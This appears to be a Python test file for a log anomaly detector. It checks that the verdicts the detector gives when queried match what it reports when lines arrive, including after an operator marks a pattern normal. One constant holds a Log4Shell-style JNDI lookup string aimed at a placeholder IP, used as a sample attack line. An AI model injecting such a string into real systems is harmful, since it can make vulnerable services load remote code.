"""What is said of a line that is asked about is what is said of it when it comes."""

from typing import Any

import numpy as np

from detection.columns.state_columns import State
from detection.detector import Detector
from detection.models.model import Model
from tests.detection.journal import Journal
from tests.detection.simple import CLOSE, OPEN, READ, RESTARTED, RETRY, WRITE, alerts_of, answer, line, said, session

ATTACK = b"looking up ${jndi:ldap://203.0.113.9/a}"


def told_alike(journal: Journal, key: str, texts: list[bytes], at: float = 2000.0) -> list[dict[str, Any]]:
    """Ask about each line as the next one of its session, then let it come. What was said when it came."""
    records = []
    for text in session(key, texts, at):
        (asked,) = journal.detector.ask([text], key, explain=True)
        (record,) = (each for each in said(journal, [text]) if not each["closed"])
        assert (asked["verdict"], asked["p"]) == (record["verdict"], record["p"]), text
        seen = asked["details"]["log_data"]["template_id"] >= 0
        told = {name: asked["explain"].get(name) for name in ("cause_kind", "what")}
        if record["flagged"]:
            assert told["cause_kind"] == record["cause_kind"] and asked["is_anomaly"], text
            assert told["what"] == record["what"] or not seen, text
        else:
            assert set(told.values()) == {None}, text
        records.append(record)
    return records


def test_a_session_strange_after_a_line_nobody_knew_is_novel_for_that_line_asked_or_come(
    used_to_novelty: tuple[State, Model],
) -> None:
    journal = Journal(Detector.load(*used_to_novelty))
    said(journal, [line("now", OPEN, 2000)])  # the clock is there before the sessions are
    records = told_alike(journal, "x", [OPEN, RESTARTED, READ, READ, READ, OPEN, READ])
    (flagged,) = (record for record in records if record["flagged"])
    assert (flagged["verdict"], flagged["cause_kind"]) == ("novel", "new") and flagged is not records[1]
    records = told_alike(journal, "y", [OPEN, READ, READ, READ, OPEN, READ])
    assert [record["cause_kind"] for record in records if record["flagged"]] == ["shape"], "nothing new came before"


def test_asked_and_come_agree_whatever_a_session_does(journal: Journal) -> None:
    said(journal, [line("now", OPEN, 2000)])
    rng = np.random.default_rng(1)
    verdicts = set()
    for number in range(60):
        texts = rng.choice(np.array([OPEN, READ, WRITE, RETRY, CLOSE, RESTARTED, ATTACK]), int(rng.integers(1, 9)))
        records = told_alike(journal, f"x{number}", texts.tolist())
        verdicts |= {(record["verdict"], record["flagged"]) for record in records}
    assert verdicts >= {("normal", False), ("novel", True), ("novel", False), ("anomaly", True), ("attack", True)}


def test_asked_and_come_agree_on_what_the_operator_has_called_normal(journal: Journal) -> None:
    odd = [OPEN, *[RETRY] * 6, CLOSE]
    (alert,) = alerts_of(journal, session("x", odd, 2000))
    answer(journal, alert, "normal")
    records = told_alike(journal, "y", odd)
    assert not records[3]["flagged"] and alert["cause_kind"] == "shape"
